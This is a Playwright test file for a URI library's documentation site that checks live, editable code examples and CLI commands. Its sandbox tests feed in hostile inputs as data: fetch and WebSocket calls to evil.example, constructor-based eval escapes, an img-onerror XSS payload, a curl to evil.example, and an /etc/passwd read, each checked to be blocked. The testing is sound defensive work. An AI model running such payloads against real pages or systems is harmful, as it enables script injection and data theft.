/** The examples of the documentation, made live, run and edited in the page. */

import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { DOCUMENTATION_FILES, placeOf } from "../.vitepress/pages.ts";
import { display } from "../live/display.ts";
import { runsInPage } from "../live/module-names.ts";
import { runsCommand } from "../live/not-live.ts";
import { withoutNotes } from "../live/notes.ts";
import { shown as shownOnPage } from "../look/shown.ts";
import { expectUsableByAll, useBuiltSite } from "./within.ts";

const { within, violationsOn } = useBuiltSite();

const root = fileURLToPath(new URL("../..", import.meta.url));
const examplesIn = (file: string) =>
  [...readFileSync(`${root}/${file}`, "utf8").matchAll(/^```ts\n(.*?)^```$/gms)]
    .map(([, code = ""]) => code)
    .filter(runsInPage);

/** One for the rest, for every example is run by the interpreter in live/examples.site.test.ts; all of them if EVERY_PAGE is set. */
const CHECKED =
  process.env.EVERY_PAGE === undefined
    ? ["docs/lists.md", "docs/iri.md", "docs/ajv.md", "docs/formats.md"]
    : DOCUMENTATION_FILES.filter((file) => file.endsWith(".md") && examplesIn(file).length > 0);

const buttons = (page: Page) => page.getByRole("button", { name: /^Run and edit: / });
const field = (page: Page) => page.getByRole("textbox", { name: "The code of the example" });
const status = (page: Page) => page.locator(".live-status");
/** What stands after the lines, without the mark before it. */
const shown = (page: Page) => page.locator(".live-note").allInnerTexts();

async function openFirst(page: Page): Promise<void> {
  page.setDefaultTimeout(10_000);
  await buttons(page).first().click();
  await expect.poll(() => status(page).innerText()).toMatch(/\d+ values\.$/);
}

describe("a live example", () => {
  it.each(CHECKED)("shows the values that are noted: each of %s", (file) =>
    within(`/${file.replace(/\.md$/, ".html")}`, async (page) => {
      const examples = examplesIn(file);
      expect(await buttons(page).count()).toBe(examples.length);
      for (const [at, example] of examples.entries()) {
        await buttons(page).nth(at).click();
        await expect.poll(() => status(page).innerText(), { timeout: 20_000 }).toMatch(/value/);
        const { notes } = withoutNotes(example);
        const noted = notes.map(({ value }) => shownOnPage(display(new Function(`return (${value})`)())));
        const values = await page.locator(".live-value").allInnerTexts();
        expect(
          values.filter((value) => noted.includes(value)),
          example,
        ).toEqual(noted);
        await page.getByRole("button", { name: "Close" }).click();
      }
    }),
  );

  it("is loaded when its button is pressed, by the keyboard, too; Escape closes it", () =>
    within("/docs/surt.html", async (page) => {
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      await buttons(page).first().focus();
      expect(requests).toEqual([]);
      await page.keyboard.press("Enter");
      await expect.poll(() => status(page).innerText()).toMatch(/values\.$/);
      expect(requests.filter((url) => url.includes("live.worker")).length).toBe(1);
      expect(await page.evaluate("document.activeElement.tagName")).toBe("TEXTAREA");
      await page.keyboard.press("Escape");
      expect(await field(page).count()).toBe(0);
      expect(await page.evaluate("document.activeElement.textContent")).toMatch(/^Run and edit/);
    }));

  it("shows the values as it is edited, what is logged, and the errors of urikit", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      await field(page).fill(
        'import { parse } from "urikit";\nconst a: string = "http://a:8080/b";\nparse(a).port;\nconsole.log("c", [1]);',
      );
      await expect.poll(() => shown(page)).toEqual(['"8080"', "c [1]"]);
      await field(page).fill(
        'import { parse } from "urikit";\nparse("http://a/b").path;\nparse("http://a/b c");',
      );
      await expect
        .poll(() => shown(page))
        .toEqual(['"/b"', expect.stringMatching(/^UriSyntaxError: .*a space is not allowed/)]);
      expect(await status(page).innerText()).toMatch(/^Line 3: UriSyntaxError/);
      expect(await page.locator(".live-place").innerText()).toBe("http://a/b c\n          ^");
      await field(page).fill("1 +");
      await expect.poll(() => status(page).innerText()).toMatch(/^Line 1: SyntaxError/);
      await page.getByRole("button", { name: "Begin again" }).click();
      await expect.poll(() => status(page).innerText()).toMatch(/values\.$/);
    }));

  it("is stopped if it does not end", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      await field(page).fill("1;\nwhile (true) {}");
      await expect
        .poll(() => status(page).innerText(), { timeout: 20_000 })
        .toBe("It was stopped after three seconds.");
      expect(await shown(page)).toEqual(["1"]);
      await field(page).fill("const f = () => f();\nf();");
      await expect.poll(() => status(page).innerText(), { timeout: 20_000 }).toMatch(/^Line 2: RangeError/);
      await field(page).fill("1 + 1;");
      await expect.poll(() => shown(page)).toEqual(["2"]);
    }));

  it("reaches nothing but the language: no network, no storage, no code made of text", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      const attempts = [
        "fetch('https://evil.example/')",
        "new XMLHttpRequest()",
        "new WebSocket('wss://evil.example/')",
        "importScripts('https://evil.example/a.js')",
        "globalThis.fetch.call",
        "self.postMessage({ kind: 'done' })",
        "indexedDB.open('a')",
        "caches.open('a')",
        "navigator.userAgent",
        "location.href",
        "new Worker('/a.js')",
        "setTimeout('fetch()')",
        "eval('1')",
        "Function('return 1')()",
        "(() => {}).constructor('return fetch')()",
        "(async () => {}).constructor('return fetch')()",
        "[].map.constructor('return this')()",
        "Object.getPrototypeOf(function* () {}).constructor('return 1')()",
        "window.document.body",
      ];
      await field(page).fill(
        attempts
          .map(
            (attempt) =>
              `try { console.log("reached", ${attempt}); } catch (error) { console.log(error.name); }`,
          )
          .join("\n"),
      );
      await expect.poll(async () => (await shown(page)).length).toBe(attempts.length);
      for (const [at, text] of (await shown(page)).entries())
        expect(text, attempts[at]).toMatch(/^(?:ReferenceError|TypeError|EvalError)$/);
      await field(page).fill("import('https://evil.example/');\nimport { a } from 'https://evil.example/';");
      await expect
        .poll(() => status(page).innerText())
        .toContain('"https://evil.example/" is not in this page');
      expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
    }));

  it("lays nothing out as markup, shows nothing invisible, no more than is read, and is for everyone", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      await field(page).fill(
        '"<img src=x onerror=alert(1)>";\n"\\u202e\\u0007";\n"x".repeat(1e6);\nArray.from({ length: 1e5 }, (_, at) => at);',
      );
      await expect.poll(async () => (await shown(page)).length).toBe(4);
      expect(await page.locator(".live-editor :is(img, script, b)").count()).toBe(0);
      expect((await shown(page))[1]).not.toMatch(/\u202e/);
      expect((await page.locator(".live-editor").innerText()).length).toBeLessThan(10_000);
      await expectUsableByAll(page);
      expect(await page.locator(".live-values").innerText()).toMatch(/Line \d+: /);
    }));
});

/** What a `console` block shows of each command that runs in the page, up to a `…`. */
function commandsShownIn(file: string): { readonly command: string; readonly lines: readonly string[] }[] {
  const blocks = [...readFileSync(`${root}/${file}`, "utf8").matchAll(/^```console\n(.*?)^```$/gms)];
  return blocks
    .flatMap(([, block = ""]) => block.split(/^\$ /m).slice(1))
    .map((part) => {
      const [command = "", ...output] = part.trimEnd().split("\n");
      const end = output.findIndex((line) => line.trim() === "…");
      const lines = output.slice(0, end < 0 ? undefined : end).filter((line) => line !== "");
      return { command, lines };
    })
    .filter(({ command }) => runsCommand(command));
}

const WITH_COMMANDS =
  process.env.EVERY_PAGE === undefined
    ? ["docs/lists.md", "docs/zh/command.md"]
    : DOCUMENTATION_FILES.filter((file) => file.endsWith(".md") && commandsShownIn(file).length > 0);

const triers = (page: Page) => page.getByRole("button", { name: /^(?:Try it|试一试): / });
const line = (page: Page) => page.getByRole("textbox", { name: /^(?:The command|命令)(?: 1)?$/ });
const printed = async (page: Page) => (await page.locator(".live-output").first().innerText()).trimEnd();

describe("a command of an example", () => {
  it.each(WITH_COMMANDS)("prints what stands there: each of %s", (file) =>
    within(`/${placeOf(file).replace(/\.md$/, ".html")}`, async (page) => {
      const shown: { readonly command: string; readonly lines: readonly string[] }[] = [];
      const count = await triers(page).count();
      for (let at = 0; at < count; at++) {
        await triers(page).nth(at).click();
        await expect.poll(() => status(page).count()).toBeGreaterThan(0);
        await expect
          .poll(async () => (await status(page).allInnerTexts()).join("\n"), { timeout: 30_000 })
          .not.toMatch(/Running|正在/);
        for (const one of await page.locator(".live-command").all()) {
          const outputs = await one.locator(".live-output").allTextContents();
          const lines = (outputs[0] ?? "").split("\n").filter((text) => text !== "");
          shown.push({ command: await one.getByRole("textbox").first().inputValue(), lines });
          expect(await one.locator(".live-problem").count()).toBe(0);
        }
        await page.keyboard.press("Escape");
      }
      const expected = commandsShownIn(file);
      expect(shown.map(({ command }) => command)).toEqual(expected.map(({ command }) => command));
      for (const [at, { command, lines }] of expected.entries())
        if (lines.length > 0) expect(shown[at]?.lines.slice(0, lines.length), command).toEqual(lines);
    }),
  );

  it("is loaded when it is asked for, changes as it is edited, and says why it does not run", () =>
    within("/docs/surt.html", async (page) => {
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      await triers(page).first().click();
      await expect.poll(() => printed(page)).toBe("http://(org,example,www,:8080)/a?b");
      expect(requests.filter((url) => url.includes("command.worker")).length).toBe(1);
      expect(await page.evaluate("document.activeElement.tagName")).toBe("TEXTAREA");
      await line(page).fill("uri check 'http://good.example\\@evil.example/'");
      await expect.poll(() => printed(page)).toMatch(/^invalid: a backslash is not allowed/);
      await expect.poll(() => status(page).first().innerText()).toBe("Exit status 1.");
      await line(page).fill("uri chekc a");
      await expect.poll(() => printed(page)).toContain("check");
      expect(await status(page).first().innerText()).toBe("Exit status 2.");
      for (const [command, reason] of [
        ["uri check a&b", "“&” stands here for a shell"],
        ["uri check 'a", "A quotation mark has no other one"],
        ["curl http://evil.example/", "This page has no program “curl”"],
        ["uri check --input /etc/passwd", "This page has no file “/etc/passwd”"],
        ["uri", "Exit status 2."],
        ["uri --version", "Exit status 0."],
      ] as const) {
        await line(page).fill(command);
        await expect.poll(() => status(page).first().innerText()).toContain(reason);
      }
      expect(await printed(page)).toMatch(/^\d+\.\d+\.\d+$/);
      await page.keyboard.press("Escape");
      expect(await page.evaluate("document.activeElement.textContent")).toBe("Try it");
    }));

  it("reads files that can be edited, and shows those that it writes", () =>
    within("/packages/cli/README.html", async (page) => {
      await triers(page).first().click();
      await line(page).fill("uri normalize < links.txt | sort -u > distinct.txt");
      await page
        .getByRole("textbox", { name: "What stands in links.txt" })
        .first()
        .fill("HTTP://b.example/\nhttp://a.example/\nhttp://b.example/\n");
      await expect.poll(() => printed(page)).toBe("http://a.example/\nhttp://b.example/");
      expect(await page.locator(".live-command").first().innerText()).toContain(
        "What the command writes to distinct.txt",
      );
    }));

  it("lays nothing out as markup, shows no secret and no more than is read, and is for everyone", () =>
    within("/docs/surt.html", async (page) => {
      await triers(page).first().click();
      await line(page).fill("uri check '<img src=x onerror=alert(1)>' 'http://me:sesame@h/\u202e\u0007'");
      await expect.poll(() => printed(page)).toContain("<img src=x");
      expect(await page.locator(".live-editor :is(img, script, b)").count()).toBe(0);
      expect(await printed(page)).not.toMatch(/(?!\n)\p{C}|sesame/u);
      await line(page).fill("uri report --input samples/references.txt");
      await expect.poll(() => printed(page)).toContain("5,263");
      await line(page).fill("uri normalize --input samples/references.txt");
      await expect.poll(() => printed(page)).toMatch(/… \d+ more lines$/);
      await expectUsableByAll(page);
    }));

  it("what does not run says why beside it", () =>
    within("/docs/context.html", async (page) => {
      const all = (await page.locator(".not-live").allInnerTexts()).join(" ");
      expect(all).toContain("This page has no jq: the line that calls it does not run here.");
      expect(all).toContain("This page has no docs/: the line that reads it does not run here.");
    }));
});

it("a command that the page can answer leads to the tool with its reference", () =>
  within("/docs/trurl.html", async (page) => {
    await page.getByRole("link", { name: /^Look at it: uri resolve/ }).click();
    await expect.poll(() => page.locator(".target").innerText()).toBe("https://curl.se/here.html");
  }));

it("axe-core finds no violation while an example is edited, in both themes", async () => {
  const open = async (page: Page) => {
    await openFirst(page);
    await triers(page).first().click();
    await expect.poll(() => printed(page)).not.toBe("");
  };
  expect(await violationsOn("/docs/surt.html", open)).toEqual([]);
});
